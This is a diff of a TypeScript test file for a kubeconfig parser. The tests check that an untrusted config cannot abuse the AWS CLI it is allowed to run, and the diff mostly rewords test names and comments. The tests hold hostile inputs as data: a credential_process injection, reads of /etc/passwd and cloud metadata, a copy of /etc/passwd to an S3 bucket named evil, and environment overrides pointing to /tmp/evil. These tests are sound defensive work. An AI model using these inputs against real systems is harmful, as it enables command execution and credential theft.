@@ -10,7 +10,10 @@ import { kubeconfig } from '../config/kubeconfig.fixture.ts';
 import { parseKubeconfig } from '../config/kubeconfig.ts';
 import { createIdentity } from './identity.ts';
 
-/** Stands in for the AWS CLI: `configure set` writes its configuration, and a `credential_process` in that is run. */
+/**
+ * Replaces the AWS CLI: `configure set` writes a configuration file, and other commands run the `credential_process` of
+ * that file.
+ */
 const STAND_IN = `#!${process.execPath}
 const { execSync } = require('node:child_process');
 const { existsSync, mkdirSync, readFileSync, writeFileSync } = require('node:fs');
@@ -27,7 +30,7 @@ if (args[0] === 'configure') {
 }
 `;
 
-/** As in docs/security.md, with credentials by which the real CLI makes a token without a network. */
+/** The example of docs/security.md, with credentials that let the real CLI create a token without a network. */
 const AWS: AllowedCommand = {
   command: 'aws',
   args: [
@@ -67,7 +70,7 @@ interface Choice {
   readonly env?: Readonly<Record<string, string>>;
 }
 
-/** A kubeconfig whose writer chose how `aws` is called. */
+/** Returns a kubeconfig with the given arguments and variables for `aws`. */
 function written({ args = GET_TOKEN, env = {} }: Choice): string {
   const variables = Object.entries(env).map(([name, value]) => ({ name, value }));
   const exec = { apiVersion: 'client.authentication.k8s.io/v1beta1', command: 'aws', args, env: variables };
@@ -87,7 +90,7 @@ const untrusted = (choice: Choice) =>
   parseKubeconfig(written(choice), { policy: 'untrusted', allow: ['exec'], allowedCommands: [AWS] });
 
 describe('an untrusted kubeconfig that may run aws', () => {
-  it('S-12: is given the example of the documentation', async () => {
+  it('S-12: is tested with the example of the documentation', async () => {
     const docs = await readFile(new URL('../../../../docs/security.md', import.meta.url), 'utf8');
     const plain = (text: string) => text.replaceAll(/[\s"',]/g, '').replaceAll(/([{,])(\w+):/g, '$1$2:');
     const args = JSON.stringify(AWS.args).slice(1, -1);
@@ -95,40 +98,43 @@ describe('an untrusted kubeconfig that may run aws', () => {
     expect(plain(docs)).toContain('env:{AWS_STS_REGIONAL_ENDPOINTS:regional}');
   });
 
-  it('S-12: gets a token as the list allows', async () => {
+  it('S-12: obtains a token with allowed arguments', async () => {
     expect(await authorizationOf(untrusted({}))).toMatch(/^Bearer k8s-aws-v1\./);
   }, 60_000);
 
   it.each<[string, Choice]>([
     ['configures a program', { args: ['configure', 'set', 'default.credential_process', 'touch pwned'] }],
-    ['configures it in place of the token', { args: ['configure', 'set', 'credential_process', 'touch pwned'] }],
+    [
+      'configures a program instead of getting a token',
+      { args: ['configure', 'set', 'credential_process', 'touch pwned'] },
+    ],
     ['names another server', { args: [...GET_TOKEN, '--endpoint-url', 'http://169.254.169.254'] }],
-    ['has a file read', { args: [...GET_TOKEN.slice(0, -1), 'file:///etc/passwd'] }],
-    ['has a URL read', { args: [...GET_TOKEN.slice(0, -1), 'http://169.254.169.254/'] }],
-    ['puts an option in place of a value', { args: [...GET_TOKEN.slice(0, -1), '--no-verify-ssl'] }],
+    ['reads a file', { args: [...GET_TOKEN.slice(0, -1), 'file:///etc/passwd'] }],
+    ['reads a URL', { args: [...GET_TOKEN.slice(0, -1), 'http://169.254.169.254/'] }],
+    ['passes an option instead of a value', { args: [...GET_TOKEN.slice(0, -1), '--no-verify-ssl'] }],
     ['reads input from a file', { args: [...GET_TOKEN, '--cli-input-json', 'file://x'] }],
-    ['takes another role', { args: [...GET_TOKEN, '--role-arn', 'arn:aws:iam::1:role/admin'] }],
-    ['takes the token of another cluster', { args: [...GET_TOKEN.slice(0, -1), 'prod'] }],
+    ['assumes another role', { args: [...GET_TOKEN, '--role-arn', 'arn:aws:iam::1:role/admin'] }],
+    ['requests the token of another cluster', { args: [...GET_TOKEN.slice(0, -1), 'prod'] }],
     ['puts a server into the region', { args: ['--region', 'x@evil.example/#', ...GET_TOKEN.slice(2)] }],
-    ['runs another tool of aws', { args: ['s3', 'cp', '/etc/passwd', 's3://evil'] }],
-    ['brings a configuration', { env: { AWS_CONFIG_FILE: '/tmp/evil' } }],
-    ['brings credentials', { env: { AWS_SHARED_CREDENTIALS_FILE: '/tmp/evil' } }],
+    ['runs another command of aws', { args: ['s3', 'cp', '/etc/passwd', 's3://evil'] }],
+    ['chooses a configuration file', { env: { AWS_CONFIG_FILE: '/tmp/evil' } }],
+    ['chooses a credentials file', { env: { AWS_SHARED_CREDENTIALS_FILE: '/tmp/evil' } }],
     ['chooses a profile', { env: { AWS_PROFILE: 'admin' } }],
-    ['chooses a home', { env: { HOME: '/tmp/evil' } }],
+    ['chooses a home directory', { env: { HOME: '/tmp/evil' } }],
     ['chooses a proxy', { env: { HTTPS_PROXY: 'http://evil' } }],
-    ['chooses an authority', { env: { AWS_CA_BUNDLE: '/tmp/evil' } }],
-    ['chooses code', { env: { PYTHONPATH: '/tmp/evil' } }],
+    ['chooses a certificate authority', { env: { AWS_CA_BUNDLE: '/tmp/evil' } }],
+    ['chooses Python modules', { env: { PYTHONPATH: '/tmp/evil' } }],
     ['chooses a pager', { env: { AWS_PAGER: 'touch pwned' } }],
     ['uses an allowed variable for something else', { env: { AWS_STS_REGIONAL_ENDPOINTS: 'legacy' } }],
-  ])('S-12: is refused when it %s', (_, choice) => {
+  ])('S-12: is refused if it %s', (_, choice) => {
     expect(() => untrusted(choice)).toThrow(/users\[0\]\.user\.exec\.(args|env): /);
   });
 
-  it('S-12: would have a program run if its arguments were free', async () => {
+  it('S-12: could run a program if its arguments were not restricted', async () => {
     const proof = join(directory, 'pwned');
     const trusted = (choice: Choice) => parseKubeconfig(written(choice), { policy: 'trusted' });
     const configure = { args: ['configure', 'set', 'default.credential_process', `touch ${proof}`] };
-    await expect(authorizationOf(trusted(configure))).rejects.toThrow('wrote what is not JSON');
+    await expect(authorizationOf(trusted(configure))).rejects.toThrow('returned output that is not JSON');
     delete process.env['AWS_ACCESS_KEY_ID'];
     await authorizationOf(trusted({})).catch(() => undefined);
     expect(await readdir(directory)).toContain('pwned');
